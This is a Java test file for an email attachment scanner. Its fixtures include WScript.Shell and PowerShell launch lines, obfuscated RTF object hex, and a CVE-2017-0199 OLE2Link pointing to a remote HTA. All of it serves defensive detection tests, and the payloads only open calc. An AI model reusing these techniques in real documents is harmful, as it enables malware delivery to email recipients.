package io.mamori.core.attachment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mamori.core.analysis.AnalysisInput;
import io.mamori.core.analysis.PasswordMail;
import io.mamori.core.analysis.Finding;
import io.mamori.core.message.Direction;
import io.mamori.core.message.Envelope;
import io.mamori.core.message.Fixtures;
import io.mamori.core.message.MessageParser;
import io.mamori.core.message.ParseLimits;
import io.mamori.core.message.ParsedMessage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class AttachmentContentAnalyzerTest {

    private static final Envelope ENVELOPE = new Envelope(Direction.INBOUND, "sender@example.net",
            List.of("keiri@example.co.jp"), "192.0.2.1", "mail.example.net", null, false, Instant.parse("2025-04-01T00:00:00Z"));

    private final AttachmentContentAnalyzer analyzer = new AttachmentContentAnalyzer();

    @TempDir
    Path temp;

    // ---- helpers -------------------------------------------------------------------------------------------

    private record Attachment(String name, String type, byte[] content) {
    }

    private static Attachment file(String name, byte[] content) {
        return new Attachment(name, "application/octet-stream", content);
    }

    private static byte[] mail(Attachment... attachments) {
        StringBuilder b = new StringBuilder("From: sender@example.net\r\nTo: keiri@example.co.jp\r\nSubject: files\r\n"
                + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                + "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nご確認ください。\r\n");
        for (Attachment a : attachments) {
            b.append("--b\r\nContent-Type: ").append(a.type());
            if (a.name() != null) {
                b.append("; name*=UTF-8''").append(percent(a.name()));
            }
            b.append("\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment");
            if (a.name() != null) {
                b.append("; filename*=UTF-8''").append(percent(a.name()));
            }
            b.append("\r\n\r\n").append(Base64.getMimeEncoder().encodeToString(a.content())).append("\r\n");
        }
        return b.append("--b--\r\n").toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String percent(String s) {
        StringBuilder out = new StringBuilder();
        for (byte c : s.getBytes(StandardCharsets.UTF_8)) {
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '.' || c == '-' || c == '_') {
                out.append((char) c);
            } else {
                out.append('%').append(String.format("%02X", c & 0xff));
            }
        }
        return out.toString();
    }

    private List<Finding> analyze(AttachmentContentAnalyzer a, byte[] raw, ParseLimits limits) throws Exception {
        try (ParsedMessage m = new MessageParser(limits, temp).parse(new ByteArrayInputStream(raw))) {
            return a.analyze(new AnalysisInput(ENVELOPE, m));
        }
    }

    private List<Finding> analyze(byte[] raw) throws Exception {
        return analyze(analyzer, raw, ParseLimits.defaults());
    }

    private List<Finding> analyze(Attachment... attachments) throws Exception {
        return analyze(mail(attachments));
    }

    private List<Finding> fixtureMessage(String name) throws Exception {
        return analyze(Fixtures.bytes("attachment-content/" + name));
    }

    private static byte[] sample(String path) {
        try (InputStream in = AttachmentContentAnalyzerTest.class.getResourceAsStream("/files/" + path)) {
            if (in == null) {
                throw new IllegalArgumentException("no sample files/" + path);
            }
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A zip of (name, content) pairs, deflated. */
    private static byte[] zip(Object... namesAndContents) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
                zip.write((byte[]) namesAndContents[i + 1]);
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    /** The smallest thing Windows' loader calls a PE file: MZ, e_lfanew at 0x3C, and the PE signature there. */
    private static byte[] pe() {
        byte[] b = new byte[512];
        b[0] = 'M';
        b[1] = 'Z';
        b[0x3C] = (byte) 0x80;
        b[0x80] = 'P';
        b[0x81] = 'E';
        b[0x84] = 0x4C;
        b[0x85] = 0x01;
        return b;
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static final byte[] MINIMAL_PDF = ascii("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    // ---- executables and scripts by content ----------------------------------------------------------------

    @Test
    void anExecutableNamedAsAPdfInsideAZipIsExecutableContentAndAMismatch() throws Exception {
        assertThat(analyze(file("invoice.zip", zip("invoice.pdf", pe())))).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "invoice.zip!/invoice.pdf: Windows executable (PE)"),
                Finding.of("ATTACHMENT_TYPE_MISMATCH", "invoice.zip!/invoice.pdf: named .pdf, content is application/x-msdownload"));
    }

    /**
     * Zstandard (zip method 93, which WinZip writes): Commons Compress alone needed a native library for it and failed
     * the whole analyzer (found by fuzzing); the entry is now decoded and inspected like a deflated one, and a damaged
     * Zstandard entry is a damaged archive.
     */
    @Test
    void aZipEntryCompressedWithZstandardIsInspected() throws Exception {
        byte[] program = pe();

        assertThat(analyze(file("invoice.zip", ZstdZips.of("invoice.pdf", program))))
                .containsExactly(
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "invoice.zip!/invoice.pdf: Windows executable (PE)"),
                        Finding.of("ATTACHMENT_TYPE_MISMATCH",
                                "invoice.zip!/invoice.pdf: named .pdf, content is application/x-msdownload"));
        assertThat(analyze(file("invoice.zip", ZstdZips.raw("invoice.pdf", program, ascii("not zstd at all")))))
                .extracting(Finding::code, Finding::evidence).containsExactly(
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_NOT_INSPECTED",
                                "invoice.zip!/invoice.pdf: unreadable (MalformedInputException)"),
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_NOT_INSPECTED",
                                "invoice.zip: damaged archive (MalformedInputException)"));
    }

    @Test
    void namesInsideArchivesGetTheNameChecksWithTheirPathAsEvidence() throws Exception {
        assertThat(analyze(file("請求書.zip", zip("2025/04/請求書.pdf.exe", pe(), "readme.txt", ascii("hello")))))
                .containsExactly(
                        Finding.of("ATTACHMENT_EXECUTABLE", "請求書.zip!/2025/04/請求書.pdf.exe"),
                        Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "請求書.zip!/2025/04/請求書.pdf.exe"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.zip!/2025/04/請求書.pdf.exe: Windows executable (PE)"));
    }

    @Test
    void shortcutsDiskImagesOneNoteAndScriptsAreRecognisedByContentWhateverTheirName() throws Exception {
        byte[] lnk = new byte[0x4C + 16];
        System.arraycopy(new byte[] {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, 0, lnk, 0, 20);
        byte[] iso = new byte[0x8001 + 16];
        System.arraycopy(ascii("CD001"), 0, iso, 0x8001, 5);
        byte[] one = new byte[64];
        System.arraycopy(new byte[] {(byte) 0xE4, 0x52, 0x5C, 0x7B, (byte) 0x8C, (byte) 0xD8, (byte) 0xA7, 0x4D, (byte) 0xAE,
                (byte) 0xB1, 0x53, 0x78, (byte) 0xD0, 0x29, (byte) 0x96, (byte) 0xD3}, 0, one, 0, 16);

        assertThat(analyze(file("document.dat", lnk), file("scan.dat", iso), file("notes.dat", one),
                file("memo.txt", ascii("Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"cmd /c calc\"\r\n")),
                file("page.html", ascii("<html><head><HTA:APPLICATION ID=\"x\"></head><body></body></html>")),
                file("run.txt", ascii("powershell -w hidden -enc SQBFAFgA\r\n"))))
                .containsExactly(
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "document.dat: Windows shortcut (LNK)"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "scan.dat: disk image (ISO 9660)"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "notes.dat: OneNote document"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "memo.txt: Windows script (wscript.shell)"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "page.html: HTML application (HTA)"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "run.txt: PowerShell command"));
    }

    @Test
    void htmlDisguisedAsAPdfIsATypeMismatch() throws Exception {
        assertThat(analyze(file("invoice.pdf", ascii("<!DOCTYPE html><html><body><form action=x>Login</form></body></html>"))))
                .containsExactly(Finding.of("ATTACHMENT_TYPE_MISMATCH", "invoice.pdf: named .pdf, content is text/html"));
    }

    @Test
    void withoutAFileNameTheDeclaredTypeIsWhatTheContentMustMatch() throws Exception {
        assertThat(analyze(new Attachment(null, "application/pdf", pe()))).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "part 2: Windows executable (PE)"),
                Finding.of("ATTACHMENT_TYPE_MISMATCH", "part 2: declared application/pdf, content is application/x-msdownload"));
    }

    // ---- Office ---------------------------------------------------------------------------------------------

    @Test
    void vbaProjectsInOoxmlAndOle2AndExcel4MacroSheetsAreOfficeMacros() throws Exception {
        assertThat(analyze(file("oleform-PR314.docm", sample("oletools/oleform-PR314.docm")),
                file("sample_with_vba.ppt", sample("oletools/sample_with_vba.ppt")),
                file("excel4_sample_macro.xls", sample("oletools/excel4_sample_macro.xls")),
                file("excel4_sample_macro.xlsm", sample("oletools/excel4_sample_macro.xlsm"))))
                .containsExactly(
                        Finding.of("OFFICE_MACRO", "oleform-PR314.docm"),
                        Finding.of("OFFICE_MACRO", "sample_with_vba.ppt"),
                        Finding.of("OFFICE_MACRO", "excel4_sample_macro.xls: Excel 4 macro sheet"),
                        Finding.of("OFFICE_MACRO", "excel4_sample_macro.xlsm: Excel 4 macro sheet"));
    }

    @Test
    void oleObjectsLinkedToAUrlInOletoolsDocumentsAreRemoteContent() throws Exception {
        String target = "https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/";
        assertThat(analyze(file("sample_with_external_link_to_doc.docx", sample("oletools/sample_with_external_link_to_doc.docx")),
                file("sample_with_external_link_to_doc.xlsx", sample("oletools/sample_with_external_link_to_doc.xlsx")),
                file("sample_with_external_link_to_doc.pptx", sample("oletools/sample_with_external_link_to_doc.pptx"))))
                .containsExactly(
                        Finding.of("OFFICE_REMOTE_CONTENT", "sample_with_external_link_to_doc.docx: oleObject "
                                + target + "msodde/harmless-clean.doc"),
                        Finding.of("OFFICE_REMOTE_CONTENT", "sample_with_external_link_to_doc.xlsx: oleObject "
                                + target + "oleobj/embedded-simple-2007.doc"),
                        Finding.of("OFFICE_REMOTE_CONTENT", "sample_with_external_link_to_doc.pptx: oleObject "
                                + target + "oleobj/embedded-simple-2007.doc"));
    }

    // ---- files embedded in documents (OLE Package objects, embedded documents) ------------------------------

    /**
     * An OLE object as Office stores one for a file embedded with Object Packager: a compound file with the
     * {@code &#92;u0001Ole10Native} stream, written by POI; {@code storage} is where it sits ({@code null}: the root, as in an
     * OOXML document's {@code oleObject1.bin} or an ODF document's {@code Object 1}; {@code "MBD0001"}: Excel's layout,
     * beside a {@code Workbook} stream).
     */
    private static byte[] packaged(String storage, String fileName, byte[] data) throws Exception {
        org.apache.poi.poifs.filesystem.Ole10Native pkg = new org.apache.poi.poifs.filesystem.Ole10Native(
                fileName.substring(fileName.lastIndexOf('\\') + 1), fileName, "C:\\Temp\\" + fileName, data);
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        pkg.writeOut(stream);
        return packagedStream(storage, stream.toByteArray());
    }

    /** A compound file holding {@code stream} as its {@code &#92;u0001Ole10Native} stream, where {@code storage} says. */
    private static byte[] packagedStream(String storage, byte[] stream) throws Exception {
        try (org.apache.poi.poifs.filesystem.POIFSFileSystem fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
            org.apache.poi.poifs.filesystem.DirectoryEntry dir = fs.getRoot();
            if (storage != null) {
                dir.createDocument("Workbook", new ByteArrayInputStream(new byte[64]));
                dir = dir.createDirectory(storage);
            }
            dir.createDocument(org.apache.poi.poifs.filesystem.Ole10Native.OLE10_NATIVE, new ByteArrayInputStream(stream));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    @Test
    void theFilesEmbeddedInOletoolsDocumentsAreReadWithTheirNames() throws Exception {
        assertThat(OleInspection.inspect(sample("oletools/sample_with_lnk_file.doc")).embedded())
                .singleElement().satisfies(e -> {
                    assertThat(e.name()).isEqualTo("C:\\Users\\user\\Desktop\\calc.lnk");
                    assertThat(FileSignatures.executable(e.data(), e.data().length)).isEqualTo("Windows shortcut (LNK)");
                });
        assertThat(OleInspection.inspect(sample("oletools/embedded-simple-2007.xls")).embedded())
                .singleElement().satisfies(e -> {
                    assertThat(e.name()).isEqualTo("C:\\Users\\user\\Documents\\simple-text-file.txt");
                    assertThat(new String(e.data(), StandardCharsets.US_ASCII)).isEqualTo("This is a simple ascii contents of this simple text file.");
                });
        // the Unicode file name Packager stores besides the ANSI one (which has question marks for the Korean)
        assertThat(OleInspection.inspect(sample("oletools/embedded-unicode.doc")).embedded())
                .singleElement().satisfies(e -> assertThat(e.name())
                        .isEqualTo("C:\\Users\\user\\Documents\\ünicöde-수식끝이잘못되었습니다.txt"));
        // a package that links to a program on the recipient's disk: POI cannot read it, its name is read by hand
        assertThat(OleInspection.inspect(sample("oletools/sample_with_lnk_to_calc.doc")).embedded())
                .containsExactly(new OleInspection.Embedded("C:\\Windows\\System32\\calc.exe", null));
    }

    @Test
    void aShortcutOrAProgramEmbeddedInAWordDocumentIsAnExecutable() throws Exception {
        assertThat(analyze(file("sample_with_lnk_file.doc", sample("oletools/sample_with_lnk_file.doc")),
                file("sample_with_lnk_to_calc.doc", sample("oletools/sample_with_lnk_to_calc.doc"))))
                .containsExactly(
                        Finding.of("ATTACHMENT_EXECUTABLE", "sample_with_lnk_file.doc!/calc.lnk"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "sample_with_lnk_file.doc!/calc.lnk: Windows shortcut (LNK)"),
                        Finding.of("ATTACHMENT_EXECUTABLE", "sample_with_lnk_to_calc.doc!/calc.exe"));
    }

    @Test
    void aShortcutEmbeddedInAPowerPointPresentationIsAnExecutable() throws Exception {
        // PowerPoint 97-2003 keeps the object, a compound file with the Package, compressed in its document stream
        assertThat(OleInspection.inspect(sample("oletools/sample_with_lnk_file.ppt")).embedded()).singleElement()
                .satisfies(object -> assertThat(OleInspection.inspect(object.data()).embedded()).singleElement()
                        .satisfies(pkg -> assertThat(pkg.name()).endsWith("\\calc.lnk")));
        assertThat(analyze(file("提案書.ppt", sample("oletools/sample_with_lnk_file.ppt")))).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE", "提案書.ppt!/embedded object!/calc.lnk"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "提案書.ppt!/embedded object!/calc.lnk: Windows shortcut (LNK)"));
    }

    @Test
    void aPackageNameWrittenByJapaneseWindowsReadsAsJapanese() throws Exception {
        // Packager on Japanese Windows writes the label and file name in Shift_JIS (CP932), with no Unicode names after
        // the data: POI reads them as UTF-8 (replacement characters); the evidence must show what the sender saw
        java.nio.charset.Charset sjis = java.nio.charset.Charset.forName("windows-31j");
        byte[] program = pe();
        OleInspection.Embedded japanese = OleInspection.packaged(ansiPackage("請求書.exe", "C:\\Users\\太郎\\請求書.exe", sjis, program));
        assertThat(japanese.name()).isEqualTo("C:\\Users\\太郎\\請求書.exe");
        assertThat(japanese.data()).isEqualTo(program);
        // a Western sender's Windows-1252 name is not valid Shift_JIS and reads as Windows-1252
        assertThat(OleInspection.packaged(ansiPackage("café.pdf.exe", "C:\\Temp\\café.pdf.exe",
                java.nio.charset.Charset.forName("windows-1252"), program)).name()).isEqualTo("C:\\Temp\\café.pdf.exe");
        // and the finding names the file as the sender wrote it
        assertThat(analyze(file("見積.xls", packagedStream("MBD0001",
                ansiPackage("請求書.exe", "C:\\Users\\太郎\\請求書.exe", sjis, program)))))
                .contains(Finding.of("ATTACHMENT_EXECUTABLE", "見積.xls!/請求書.exe"));
    }

    /**
     * An {@code &#92;u0001Ole10Native} stream as Packager writes one ([MS-OLEDS] 2.3.6 and the Packager layout oletools
     * reads): size, type 2, label and file name each ending in a NUL in {@code charset}, two reserved shorts, the
     * command's length and the command, the data's length and the data; no Unicode names after it.
     */
    private static byte[] ansiPackage(String label, String fileName, java.nio.charset.Charset charset, byte[] data) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.write(2);
        body.write(0);
        body.writeBytes(label.getBytes(charset));
        body.write(0);
        body.writeBytes(fileName.getBytes(charset));
        body.write(0);
        body.writeBytes(new byte[] {0, 0, 3, 0});
        byte[] command = (fileName + "\0").getBytes(charset);
        body.writeBytes(java.nio.ByteBuffer.allocate(4).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(command.length).array());
        body.writeBytes(command);
        body.writeBytes(java.nio.ByteBuffer.allocate(4).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(data.length).array());
        body.writeBytes(data);
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        stream.writeBytes(java.nio.ByteBuffer.allocate(4).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(body.size()).array());
        stream.writeBytes(body.toByteArray());
        return stream.toByteArray();
    }

    @Test
    void aTextFileEmbeddedInDocumentsOfEachFormatIsNothing() throws Exception {
        assertThat(analyze(file("embedded-simple-2007.ppt", sample("oletools/embedded-simple-2007.ppt")),
                file("embedded-simple-2007.xls", sample("oletools/embedded-simple-2007.xls")),
                file("embedded-simple-2007.odt", sample("oletools/embedded-simple-2007.odt")),
                file("embedded-unicode.doc", sample("oletools/embedded-unicode.doc")),
                file("embedded-simple-2007.docx", sample("oletools/embedded-simple-2007.docx")))).isEmpty();
    }

    @Test
    void aProgramEmbeddedInWordExcelAndOdfDocumentsIsFoundWhereEachFormatKeepsIt() throws Exception {
        byte[] program = pe();
        byte[] docx = zip("[Content_Types].xml", ascii("<Types/>"), "word/document.xml", ascii("<w:document/>"),
                "word/embeddings/oleObject1.bin", packaged(null, "C:\\Users\\taro\\invoice.pdf.exe", program));
        byte[] xls = packaged("MBD0001", "setup.js", ascii("WScript.CreateObject(\"WScript.Shell\").Run(\"calc\")"));
        byte[] odt = zip("mimetype", ascii("application/vnd.oasis.opendocument.text"), "content.xml", ascii("<x/>"),
                "Object 1", packaged(null, "readme.hta", ascii("<html><script>alert(1)</script></html>")),
                "ObjectReplacements/Object 1", pe());
        assertThat(analyze(file("見積.docx", docx), file("売上.xls", xls), file("議事録.odt", odt)))
                .containsExactly(
                        Finding.of("ATTACHMENT_EXECUTABLE", "見積.docx!/word/embeddings/oleObject1.bin!/invoice.pdf.exe"),
                        Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "見積.docx!/word/embeddings/oleObject1.bin!/invoice.pdf.exe"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT",
                                "見積.docx!/word/embeddings/oleObject1.bin!/invoice.pdf.exe: Windows executable (PE)"),
                        Finding.of("ATTACHMENT_EXECUTABLE", "売上.xls!/setup.js"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "売上.xls!/setup.js: Windows script (wscript.shell)"),
                        Finding.of("ATTACHMENT_EXECUTABLE", "議事録.odt!/Object 1!/readme.hta"));
    }

    /** An OpenDocument text as LibreOffice writes one, with {@code extra} parts (name, content pairs). */
    private static byte[] odt(Object... extra) throws IOException {
        List<Object> parts = new ArrayList<>(List.of("mimetype", ascii("application/vnd.oasis.opendocument.text"),
                "content.xml", ascii("<office:document-content/>"), "META-INF/manifest.xml", ascii("<manifest/>")));
        parts.addAll(List.of(extra));
        return zip(parts.toArray());
    }

    @Test
    void macrosOfOpenDocumentFilesAreOfficeMacros() throws Exception {
        byte[] basic = odt("Basic/script-lc.xml", ascii("<library:libraries/>"),
                "Basic/Standard/script-lb.xml", ascii("<library:library library:name=\"Standard\"/>"),
                "Basic/Standard/Module1.xml", ascii("<script:module script:name=\"Module1\">Sub Main\n"
                        + "Shell(\"cmd /c calc.exe\")\nEnd Sub</script:module>"));
        byte[] python = odt("Scripts/python/run.py", ascii("import os\nos.system('calc.exe')\n"));
        // a document whose Standard library is there but empty, as LibreOffice may leave it
        byte[] emptyLibrary = odt("Basic/script-lc.xml", ascii("<library:libraries/>"),
                "Basic/Standard/script-lb.xml", ascii("<library:library library:name=\"Standard\"/>"));
        assertThat(analyze(file("議事録.odt", basic), file("集計.ods", python), file("空.odt", emptyLibrary)))
                .containsExactly(Finding.of("OFFICE_MACRO", "議事録.odt: LibreOffice Basic"),
                        Finding.of("OFFICE_MACRO", "集計.ods: document script"));
    }

    @Test
    void aMacroDocumentEmbeddedInAWorkbookIsAnOfficeMacro() throws Exception {
        byte[] docm = zip("[Content_Types].xml", ascii("<Types/>"), "word/document.xml", ascii("<w:document/>"),
                "word/vbaProject.bin", new byte[16]);
        byte[] xlsx = zip("[Content_Types].xml", ascii("<Types/>"), "xl/workbook.xml", ascii("<workbook/>"),
                "xl/embeddings/Microsoft_Word_Macro-Enabled_Document.docm", docm);
        assertThat(analyze(file("report.xlsx", xlsx))).containsExactly(Finding.of("OFFICE_MACRO",
                "report.xlsx!/xl/embeddings/Microsoft_Word_Macro-Enabled_Document.docm"));
    }

    @Test
    void aMacroIsFoundByItsRelationshipTypeWhateverItsPartIsNamed() throws Exception {
        byte[] docm = zip("[Content_Types].xml", ascii("<Types/>"), "word/document.xml", ascii("<w:document/>"),
                "word/_rels/document.xml.rels", ascii("<Relationships><Relationship Id=\"rId9\" Type=\""
                        + "http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"media/image1.bin\"/>"
                        + "</Relationships>"),
                "word/media/image1.bin", new byte[16]);
        byte[] xlsm = zip("[Content_Types].xml", ascii("<Types/>"), "xl/workbook.xml", ascii("<workbook/>"),
                "xl/_rels/workbook.xml.rels", ascii("<Relationships><Relationship Id=\"rId2\" Type=\""
                        + "http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet\""
                        + " Target=\"worksheets/sheet2.xml\"/></Relationships>"),
                "xl/worksheets/sheet2.xml", ascii("<xm:macrosheet/>"));
        assertThat(analyze(file("報告.docx", docm), file("集計.xlsx", xlsm))).containsExactly(
                Finding.of("OFFICE_MACRO", "報告.docx"), Finding.of("OFFICE_MACRO", "集計.xlsx: Excel 4 macro sheet"));
    }

    @Test
    void packagesInsidePackagesEndAtTheDepthLimit() throws Exception {
        byte[] inner = pe();
        String name = "run.exe";
        for (int level = 0; level < 6; level++) {
            inner = packaged(null, name, inner);
            name = "level" + level + ".doc";
        }
        List<Finding> findings = analyze(file("nested.doc", inner));
        assertThat(findings).anySatisfy(f -> {
            assertThat(f.code()).isEqualTo("ARCHIVE_TOO_DEEP");
            assertThat(f.evidence()).startsWith("nested.doc!/level4.doc!/level3.doc!/level2.doc!/level1.doc!/level0.doc");
        });
        // the innermost file's name is judged (it needs no opening), its content is not inspected
        assertThat(findings).contains(Finding.of("ATTACHMENT_EXECUTABLE",
                "nested.doc!/level4.doc!/level3.doc!/level2.doc!/level1.doc!/level0.doc!/run.exe"));
        assertThat(findings).noneMatch(f -> f.code().equals("ATTACHMENT_EXECUTABLE_CONTENT"));
    }

    // ---- RTF objects and the Equation Editor -----------------------------------------------------------------

    private static String hex(byte[] bytes) {
        StringBuilder b = new StringBuilder();
        for (byte x : bytes) {
            b.append(String.format("%02x", x & 0xff));
        }
        return b.toString();
    }

    private static byte[] le32(int n) {
        return new byte[] {(byte) n, (byte) (n >>> 8), (byte) (n >>> 16), (byte) (n >>> 24)};
    }

    /** An OLE 1.0 embedded object ([MS-OLEDS] 2.2.5) of {@code className} with {@code nativeData}. */
    private static byte[] ole1(String className, byte[] nativeData) throws IOException {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write(le32(0x0501));
        b.write(le32(2));
        byte[] cls = ascii(className + "\0");
        b.write(le32(cls.length));
        b.write(cls);
        b.write(le32(0)); // topic
        b.write(le32(0)); // item
        b.write(le32(nativeData.length));
        b.write(nativeData);
        return b.toByteArray();
    }

    /** An OLE Package's native data as an RTF object holds it: the Ole10Native stream without its size. */
    private static byte[] packageNative(String fileName, byte[] data) throws IOException {
        org.apache.poi.poifs.filesystem.Ole10Native pkg =
                new org.apache.poi.poifs.filesystem.Ole10Native(fileName, fileName, "C:\\Temp\\" + fileName, data);
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        pkg.writeOut(stream);
        byte[] all = stream.toByteArray();
        return java.util.Arrays.copyOfRange(all, 4, all.length);
    }

    /** An RTF document with one object whose data is {@code objdata} (already written as RTF). */
    private static byte[] rtfWithObject(String objclass, String objdata) {
        return ascii("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\pard 添付の通りです。\\par "
                + "{\\object\\objemb\\objupdate" + (objclass == null ? "" : "{\\*\\objclass " + objclass + "}")
                + "\\objw100\\objh100{\\*\\objdata " + objdata + "}{\\result{\\pict\\wmetafile8 0100}}}\\par}");
    }

    /** Hex data as exploit documents write it: broken by spaces, line breaks, control words and a group. */
    private static String obfuscated(String hex) {
        int third = hex.length() / 3;
        return hex.substring(0, third) + " \r\n\\fnil\r\n" + hex.substring(third, 2 * third)
                + "{\\proptype\\staticval abc}\r\n" + hex.substring(2 * third);
    }

    @Test
    void oletoolsObfuscatedEquationEditorExploitIsFound() throws Exception {
        // rtfobj's issue 251: an Equation.3 object behind control words, groups and line breaks in its data, with
        // \objupdate so that Word starts the object when the document opens
        assertThat(analyze(file("issue_251.rtf", sample("oletools/issue_251.rtf")))).containsExactly(
                Finding.of("OFFICE_EQUATION_EDITOR", "issue_251.rtf: equation.3 object"));
    }

    @Test
    void anEquationEditorObjectInAWordDocumentOrBehindAnotherClassNameInRtfIsFound() throws Exception {
        byte[] doc;
        try (org.apache.poi.poifs.filesystem.POIFSFileSystem fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
            fs.getRoot().createDocument("WordDocument", new ByteArrayInputStream(new byte[512]));
            org.apache.poi.poifs.filesystem.DirectoryEntry object =
                    fs.getRoot().createDirectory("ObjectPool").createDirectory("_1234567890");
            object.setStorageClsid(OleInspection.EQUATION_EDITOR);
            object.createDocument("Equation Native", new ByteArrayInputStream(new byte[64]));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            doc = out.toByteArray();
        }
        // an RTF object whose class says Word but whose data is the Equation Editor's compound file
        byte[] rtf = rtfWithObject("Word.Document.8", obfuscated(hex(ole1("Word.Document.8", doc))));
        assertThat(analyze(file("見積書.doc", doc), file("order.rtf", rtf))).containsExactly(
                Finding.of("OFFICE_EQUATION_EDITOR", "見積書.doc"),
                Finding.of("OFFICE_EQUATION_EDITOR", "order.rtf!/embedded object"));
        // the class the RTF declares is enough when the data cannot be read
        assertThat(analyze(file("a.rtf", rtfWithObject("Equation.3", "0105000002000000")))).containsExactly(
                Finding.of("OFFICE_EQUATION_EDITOR", "a.rtf: Equation.3 object"));
    }

    @Test
    void aScriptPackagedInAnRtfObjectIsInspectedLikeAnyEmbeddedFile() throws Exception {
        byte[] script = ascii("var s = WScript.CreateObject(\"WScript.Shell\"); s.Run(\"calc\");");
        byte[] rtf = rtfWithObject("Package", obfuscated(hex(ole1("Package", packageNative("invoice.pdf.js", script)))));
        assertThat(analyze(file("請求書.rtf", rtf))).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE", "請求書.rtf!/invoice.pdf.js"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "請求書.rtf!/invoice.pdf.js"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.rtf!/invoice.pdf.js: Windows script (wscript.shell)"));
    }

    @Test
    void rtfObjectsLinkedToTheNetworkAreRemoteContent() throws Exception {
        // CVE-2017-0199: an OLE2Link object whose moniker names an HTA on a web server (UTF-16LE in its native data)
        ByteArrayOutputStream moniker = new ByteArrayOutputStream();
        moniker.write(new byte[] {(byte) 0xE0, (byte) 0xC9, (byte) 0xEA, 0x79, (byte) 0xF9, (byte) 0xBA});
        moniker.write("http://203.0.113.9/doc.hta\0".getBytes(StandardCharsets.UTF_16LE));
        byte[] link = rtfWithObject(null, hex(ole1("OLE2Link", moniker.toByteArray())));
        // a linked object ([MS-OLEDS] 2.2.6: format 1, the file in its topic) on another host's share
        ByteArrayOutputStream linked = new ByteArrayOutputStream();
        linked.write(le32(0x0501));
        linked.write(le32(1));
        byte[] cls = ascii("Word.Document.12\0");
        linked.write(le32(cls.length));
        linked.write(cls);
        byte[] topic = ascii("\\\\203.0.113.9\\share\\order.docx\0");
        linked.write(le32(topic.length));
        linked.write(topic);
        linked.write(le32(0));
        byte[] share = rtfWithObject("Word.Document.12", hex(linked.toByteArray()));
        assertThat(analyze(file("a.rtf", link), file("b.rtf", share))).containsExactly(
